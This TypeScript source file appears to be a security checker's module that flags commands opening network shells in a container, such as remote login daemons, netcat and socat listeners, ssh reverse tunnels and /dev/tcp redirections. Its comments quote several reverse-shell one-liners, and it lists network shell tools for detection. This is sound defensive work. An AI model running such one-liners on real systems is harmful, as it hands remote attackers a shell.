// Finds programs that offer a shell over the network, or hand one to somebody out there.
// SPDX-License-Identifier: Apache-2.0
import { remembered } from '../model/remembered.ts';
import type { Command } from './command.ts';
import { isConnection } from './downloads.ts';
import { handsShell } from './inline.ts';
import { runsInput } from './interpreters.ts';
import { inetWrappers, isShell } from './wrappers.ts';

export interface ShellListener {
  /** Index into the commands given. */
  readonly index: number;
  /** `daemon`: a login or web terminal service; `listener`: a socket tool that waits; `reverse`: one that calls out. */
  readonly what: 'daemon' | 'listener' | 'reverse';
  /** Completes "the container …". Names programs only. */
  readonly message: string;
}

/** Daemons, with the options that only check or print. */
const daemons: ReadonlyMap<string, RegExp | null> = new Map<string, RegExp | null>([
  ['sshd', /^-(?:t|T|V|G)$/],
  ['dropbear', /^-[Vh]$/],
  ['tinysshd', null],
  ['telnetd', null],
  ['in.telnetd', null],
  ['utelnetd', null],
  ['rshd', null],
  ['in.rshd', null],
  ['rlogind', null],
  ['in.rlogind', null],
  ['rexecd', null],
  ['in.rexecd', null],
  ['ttyd', /^(?:-v|-h|--version|--help)$/],
  ['gotty', /^(?:-v|-h|--version|--help)$/],
  ['wetty', /^(?:-h|--version|--help)$/],
  ['shellinaboxd', /^(?:-h|--version|--help)$/],
  ['tmate', /^-V$/],
  ['upterm', null],
  ['sshx', null],
  ['gs-netcat', /^-h$/],
  ['xrdp', /^(?:-v|-h|--version|--help)$/],
  ['x11vnc', /^(?:-V|-h|-version|-help)$/],
  ['xvnc', /^-version$/],
  ['vncserver', /^-(?:kill|list|help|version)$/],
]);
const services: ReadonlySet<string> = new Set(['ssh', 'sshd', 'dropbear', 'telnetd', 'shellinabox']);
const netcats: ReadonlySet<string> = new Set('nc ncat netcat nc.traditional nc.openbsd pwncat'.split(' '));

/** Every command that opens a shell to the network, in order. Commands come from `commandsOf`, which gives the same list again. */
export const shellListeners = remembered((commands: readonly Command[]): readonly ShellListener[] => {
  const single = commands.flatMap((command, index): ShellListener[] => {
    const found =
      daemon(command) ??
      serviceStart(command) ??
      netcat(command) ??
      socat(command) ??
      reverseTunnel(command) ??
      inetShell(command) ??
      deviceShell(command) ??
      remoteTerminal(command) ??
      shellCode(command);
    return found === null ? [] : [{ index, ...found }];
  });
  const known = new Set(single.map(({ index }) => index));
  const joined = joinedShells(commands).filter(({ index }) => !known.has(index));
  return [...single, ...joined].sort((a, b) => a.index - b.index);
});

type Found = Omit<ShellListener, 'index'>;

function daemon({ program, arguments: words }: Command): Found | null {
  const harmless = daemons.get(program);
  if (harmless === undefined || words.some((word) => harmless?.test(word) === true)) return null;
  return { what: 'daemon', message: `runs a remote shell service (${program})` };
}

/** `service ssh start`, `systemctl start sshd`, `rc-service sshd start`, `/etc/init.d/ssh start`. */
function serviceStart({ program, path, arguments: words }: Command): Found | null {
  const starts =
    words.some((word) => /^(?:re)?start$|^--now$|^-u[a-z]*$|^up$/.test(word)) && !words.includes('disable');
  const byTool = /^(?:service|systemctl|rc-service|initctl|sv|s6-svc)$/.test(program);
  const names = byTool ? words : /\/init\.d\//.test(path) ? [program] : [];
  const name = names
    .map((word) => word.replace(/^.*\//s, '').replace(/\.service$/, ''))
    .find((word) => services.has(word));
  return starts && name !== undefined
    ? { what: 'daemon', message: `starts a remote shell service (${name})` }
    : null;
}

/** Options may stand in a cluster: `-lvnp 4444`. With `-z` nc only looks whether a port is open. */
function netcat({ program, arguments: words }: Command): Found | null {
  if (!netcats.has(program)) return null;
  const has = (letter: string, long: RegExp) =>
    words.some((word) => long.test(word) || (/^-[a-zA-Z]+$/.test(word) && word.includes(letter)));
  if (has('l', /^--listen$/)) return { what: 'listener', message: `listens on a socket (${program})` };
  const runs = has('e', /^--(?:exec|sh-exec|lua-exec)$/) || words.some((word) => /^-[a-zA-Z]*c$/.test(word));
  return runs ? { what: 'reverse', message: `hands a program to a remote host (${program})` } : null;
}

function socat({ program, arguments: words }: Command): Found | null {
  if (program !== 'socat') return null;
  // Address types: socat(1), "ADDRESS TYPES". Local (UNIX, ABSTRACT) sockets reach nobody outside.
  const listens = words.some((word) =>
    /^(?:TCP[46]?|SCTP[46]?|UDP[46]?|DCCP[46]?|OPENSSL|SSL|VSOCK|WS)-?(?:L|LISTEN|RECV|RECVFROM):/i.test(
      word,
    ),
  );
  const runs = words.some((word) => /^(?:EXEC|SYSTEM|SHELL|PTY)[:,]/i.test(word));
  const calls = words.some((word) => /^(?:TCP[46]?|SCTP[46]?|OPENSSL|SSL|VSOCK)(?:-CONNECT)?:/i.test(word));
  // A port handed on to another service runs nothing here.
  if (listens && calls && !runs) return null;
  if (listens) return { what: 'listener', message: 'listens on a socket (socat)' };
  return runs && calls ? { what: 'reverse', message: 'hands a program to a remote host (socat)' } : null;
}

/** `tcpserver 0 4444 sh`, `code tunnel`, `tailscale up --ssh` (Tailscale documentation, "Tailscale SSH"). */
function inetShell({ program, arguments: words, wrappers }: Command): Found | null {
  if (program === 'code' && words[0] === 'tunnel')
    return { what: 'daemon', message: 'runs a remote shell service (code tunnel)' };
  if (program === 'tailscale' && words.some((word) => /^--ssh(?:=true)?$/.test(word)))
    return { what: 'daemon', message: 'runs a remote shell service (tailscale --ssh)' };
  const behind = wrappers.some((wrapper) => inetWrappers.includes(wrapper));
  return behind && isShell(program) && !words.includes('-c')
    ? { what: 'listener', message: `hands a shell to whoever connects (${program})` }
    : null;
}

/** `ssh -R`, in a cluster (`-fNR`) or not: a port of the remote host leads into the container (ssh(1), "-R"). */
function reverseTunnel({ program, arguments: words }: Command): Found | null {
  if (program === 'chisel' && words[0] === 'client' && words.some((word) => /^R:/.test(word)))
    return { what: 'reverse', message: 'opens a port of a remote host into the container (chisel)' };
  if (program !== 'ssh' && program !== 'autossh') return null;
  return sshOptions(words, program).some((word) => /^-[AaCfGgKkMNnqsTtvXxYy46]*R/.test(word))
    ? { what: 'reverse', message: `opens a port of a remote host into the container (${program} -R)` }
    : null;
}

/** Options before and after the host; what follows is run there. Some take the next word (ssh(1); autossh(1) for its -M). */
function sshOptions(words: readonly string[], program: string): readonly string[] {
  const takesNext =
    program === 'autossh'
      ? /^-M$|^-[A-Za-z]*[BbcDEeFIiJLlmOoPpQRSWw]$/
      : /^-[A-Za-z]*[BbcDEeFIiJLlmOoPpQRSWw]$/;
  const options: string[] = [];
  let hosts = 0;
  for (let index = 0; index < words.length && hosts < 2; index++) {
    const word = words[index] ?? '';
    if (!word.startsWith('-')) hosts++;
    else {
      options.push(word);
      if (takesNext.test(word)) index++;
    }
  }
  return options;
}

/** `bash -i >& /dev/tcp/host/port 0>&1`, `sh >/dev/tcp/host/port <&1`: bash(1), "REDIRECTION". Without `-i` or redirected input it is a probe. */
function deviceShell({ program, redirects, arguments: words }: Command): Found | null {
  const interactive = words.some((word) => /^-[a-hj-z]*i[a-z]*$/.test(word));
  const remote = redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target));
  const answered = redirects.some(
    ({ operator, descriptor }) => operator === '<&' || (operator === '>&' && descriptor === '0'),
  );
  return isShell(program) && (interactive || answered) && remote
    ? { what: 'reverse', message: `hands a shell to a remote host (${program})` }
    : null;
}

/** `xterm -display host:0`: a shell in a window on somebody else’s screen (X(7), "DISPLAY NAMES"). */
function remoteTerminal({ program, arguments: words }: Command): Found | null {
  if (!/^(?:xterm|u?rxvt|konsole|gnome-terminal|lxterm)$/.test(program)) return null;
  const screen = words[words.findIndex((word) => /^--?display$/.test(word)) + 1] ?? '';
  return /^(?!(?:localhost|unix|127\.)\b)[\w.-]{1,253}:\d/.test(screen)
    ? { what: 'reverse', message: `hands a shell to a remote host (${program})` }
    : null;
}

/** `python -c 'import socket, pty; …'`: connects, and hands the connection a shell. */
function shellCode(command: Command): Found | null {
  return handsShell(command)
    ? { what: 'reverse', message: `hands a shell to a remote host (${command.program})` }
    : null;
}

/** `sh -i < /tmp/f | nc host port > /tmp/f`, `exec 5<>/dev/tcp/host/port; while read l <&5; do $l; done`: what a remote host says is run. */
function joinedShells(commands: readonly Command[]): ShellListener[] {
  const connected = pipelinesOf(commands, isConnection);
  return commands.flatMap((command, index): ShellListener[] => {
    const given = isShell(command.program) && runsInput(command) && connected.has(command.pipeline);
    if (!given && !command.runs.some(({ kind }) => kind === 'connection')) return [];
    const by = command.wrappers.findLast(isShell) ?? 'the shell';
    const program = isShell(command.program) ? command.program : by;
    return [{ index, what: 'reverse', message: `hands a shell to a remote host (${program})` }];
  });
}

function pipelinesOf(commands: readonly Command[], has: (command: Command) => boolean): ReadonlySet<number> {
  return new Set(commands.filter(has).map(({ pipeline }) => pipeline));
}
